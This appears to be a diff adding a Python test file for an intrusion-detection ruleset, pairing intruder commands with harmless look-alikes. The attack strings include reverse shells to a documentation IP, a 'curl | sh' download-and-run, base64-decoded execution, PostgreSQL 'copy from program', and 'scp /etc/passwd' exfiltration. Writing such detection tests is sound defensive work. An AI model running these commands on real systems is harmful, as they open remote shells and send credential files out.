@@ -1,0 +1,69 @@
+# SPDX-License-Identifier: Apache-2.0
+"""20-commands.yaml: commands that an intruder runs."""
+
+from __future__ import annotations
+
+from proof import Proof
+
+# To the listener that types "id; exit" (see peers.py).
+REVERSE_SHELL = """python3 -c '
+import os, socket
+peer = socket.create_connection(("203.0.113.9", 4444))
+for number in range(3):
+    os.dup2(peer.fileno(), number)
+os.execv("/bin/sh", ["sh"])'
+"""
+
+# A program of the database's user is run by the server itself: no shell of ours is between.
+POSTGRES = """
+cd /var/lib/postgresql
+setpriv --reuid=postgres --regid=postgres --clear-groups /usr/lib/postgresql/15/bin/postgres --single -D data postgres <<'END'
+create table lines (line text);
+copy lines from program 'id';
+END
+"""
+
+PROOFS = [
+    Proof("Reverse shell", attack=REVERSE_SHELL, look_alike="echo id | sh; sh </dev/null"),
+
+    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike="""python3 -c '
+import os, socket
+server = socket.create_server(("203.0.113.9", 7000))
+client = socket.create_connection(("203.0.113.9", 7000))
+accepted, _ = server.accept()
+os.dup2(accepted.fileno(), 0)'
+"""),
+
+    Proof("Reverse shell command", attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+          look_alike="python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 7001))'"),
+
+    Proof("Server program started a shell", attack=POSTGRES, look_alike="sh -c 'nginx -t'"),
+
+    Proof("Server program started a tool", attack=POSTGRES, look_alike="nginx -t"),
+
+    Proof("Download piped into a shell", attack="sh -c 'curl -s http://203.0.113.9/script | sh'",
+          look_alike="sh -c 'curl -fsS http://203.0.113.9/script | grep id'"),
+
+    Proof("Encoded command decoded and run", attack="sh -c 'echo aWQK | base64 -d | sh'",
+          look_alike="sh -c 'echo aWQK | base64 -d >/srv/ca.pem'"),
+
+    Proof("Break-out tool run in a container", attack="capsh --print >/dev/null", look_alike="lsns >/dev/null"),
+
+    Proof("Script in a temporary directory run", attack="echo 'print(1)' >/tmp/x.py; python3 /tmp/x.py",
+          look_alike="echo 'print(1)' >/srv/x.py; python3 /srv/x.py"),
+
+    # script(1) gives what it runs a terminal.
+    Proof("Terminal shell in a container", attack="script -qc 'bash -c id' /dev/null", look_alike="bash -c id"),
+
+    Proof("Package manager run in a container", attack="apt-get install -y nmap || true",
+          look_alike="dpkg -l >/dev/null; apt-cache policy >/dev/null"),
+
+    Proof("Compiler run in a container", before="ln -s /usr/bin/true /usr/local/bin/gcc", attack="gcc -o x x.c",
+          look_alike="perl -c -e 1"),
+
+    Proof("Network tool run in a container", before="ln -s /usr/bin/true /usr/local/bin/nmap",
+          attack="nmap -sS 203.0.113.0/24", look_alike="ss -tln >/dev/null; ip route >/dev/null"),
+
+    Proof("Remote copy or login from a container", before="ln -s /usr/bin/true /usr/local/bin/scp",
+          attack="scp /etc/passwd 203.0.113.9:", look_alike="cp /etc/passwd /srv/passwd"),
+]
